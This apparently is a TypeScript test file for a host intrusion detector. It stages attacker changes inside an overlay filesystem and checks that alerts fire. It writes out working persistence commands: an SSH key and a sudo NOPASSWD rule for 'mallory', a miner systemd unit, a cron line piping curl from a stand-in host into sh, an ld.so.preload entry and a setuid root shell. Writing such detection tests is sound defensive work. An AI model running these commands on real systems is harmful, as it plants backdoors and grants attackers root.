import type { Script, Scripts } from "./stage.ts";

/** Directories of this machine that may be changed, and are as they were when the incident is over. */
const loose = (...directories: readonly string[]) =>
  directories
    .map(
      (directory, index) => `
mkdir "$W/upper${index}" "$W/work${index}"
mount -t overlay overlay -o "lowerdir=${directory},upperdir=$W/upper${index},workdir=$W/work${index}" ${directory}`,
    )
    .join("\n");

/** Something is changed between two looks, and nothing else. */
const changing = (directories: readonly string[], change: string, begins = ""): Script => ({
  play: async (stage) => {
    stage.shell(`${loose(...directories)}\n${begins}`);
    await stage.report(0);
    await stage.report();
    stage.shell(change);
    return stage.firstAlert("", 3);
  },
});

const key = `ssh-ed25519 ${Buffer.from(`\0\0\0\x0bssh-ed25519\0\0\0 ${"k".repeat(32)}`, "latin1").toString("base64")} mallory@laptop`;

/** What somebody does to the machine. */
export const changeScripts: Scripts = {
  newKey: changing(
    ["/root"],
    `mkdir -p /root/.ssh; chmod 700 /root/.ssh; echo '${key}' >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys`,
  ),
  newUser: changing(["/etc"], "echo 'mallory:x:4242:4242::/home/mallory:/bin/bash' >>/etc/passwd"),
  sudoers: changing(
    ["/etc"],
    "mkdir -p /etc/sudoers.d; echo 'mallory ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/mallory; chmod 440 /etc/sudoers.d/mallory",
    "mkdir -p /etc/sudoers.d",
  ),
  newUnit: changing(
    ["/etc"],
    `cd /etc/systemd/system
printf '[Service]\\nExecStart=/opt/miner\\n[Install]\\nWantedBy=multi-user.target\\n' >miner.service
mkdir -p multi-user.target.wants
ln -s ../miner.service multi-user.target.wants/miner.service`,
    "mkdir -p /etc/systemd/system",
  ),
  cronLine: changing(
    ["/etc"],
    "echo '* * * * * root curl -s http://192.0.2.1/x | sh' >/etc/cron.d/fetch",
    "mkdir -p /etc/cron.d",
  ),
  openPort: {
    play: async (stage) => {
      await stage.report(0);
      await stage.report();
      using server = Bun.listen({ hostname: "0.0.0.0", port: 4444, socket: { data: () => undefined } });
      server.ref();
      return await stage.firstAlert("", 3);
    },
  },
  preload: changing(
    ["/etc"],
    "echo /usr/lib/libhide.so >/etc/ld.so.preload.new; mv /etc/ld.so.preload.new /etc/ld.so.preload",
  ),
  setuid: {
    play: async (stage) => {
      stage.shell(loose("/usr"));
      await stage.report(0);
      await stage.report();
      stage.shell("mkdir -p /usr/local/bin; cp /bin/sh /usr/local/bin/rootshell; chmod 4755 /usr/local/bin/rootshell");
      // Such files are looked for once a day.
      stage.pass(24 * 60);
      return stage.firstAlert("setuid", 3);
    },
  },
  changedBinary: changing(
    ["/usr/local"],
    "echo '#!/bin/sh' >/usr/local/bin/server-metrics",
    "cp /bin/true /usr/local/bin/server-metrics; chmod 755 /usr/local/bin/server-metrics",
  ),
};
